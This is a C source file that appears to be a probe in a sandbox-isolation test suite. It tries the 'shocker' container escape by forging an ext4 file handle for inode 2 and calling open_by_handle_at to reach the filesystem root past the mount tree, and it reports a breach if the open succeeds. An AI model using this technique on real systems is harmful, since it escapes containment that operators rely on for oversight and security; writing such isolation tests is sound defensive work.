/* open_by_handle_at ("shocker"): open any inode of a mounted filesystem by
 * its handle, bypassing the mount tree. The root directory of the
 * workspace's filesystem (inode 2 on ext4) is tried through the workspace
 * mount. Breach: the open works. */
#include "probe.h"
#include <fcntl.h>

int main(void) {
        struct {
                struct file_handle h;
                unsigned char bytes[MAX_HANDLE_SZ];
        } fh;
        int mount_id = 0;
        fh.h.handle_bytes = MAX_HANDLE_SZ;
        int r = name_to_handle_at(AT_FDCWD, "/workspace", &fh.h, &mount_id, 0);
        int mfd = open("/workspace", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        if (r < 0)
                probe_try(0, "name_to_handle_at /workspace");
        else {
                int fd = open_by_handle_at(mfd, &fh.h, O_RDONLY);
                probe_try(fd >= 0, "open_by_handle_at of the workspace's own handle");
                if (fd >= 0)
                        close(fd);
                /* ext4-style handle of inode 2, generation 0: the filesystem root. */
                fh.h.handle_type = 1;
                fh.h.handle_bytes = 8;
                unsigned int ino_gen[2] = {2, 0};
                memcpy(fh.h.f_handle, ino_gen, sizeof ino_gen);
                fd = open_by_handle_at(mfd, &fh.h, O_RDONLY);
                probe_try(fd >= 0, "open_by_handle_at of inode 2 (the filesystem root)");
                if (fd >= 0)
                        close(fd);
        }
        return probe_report("open_by_handle");
}
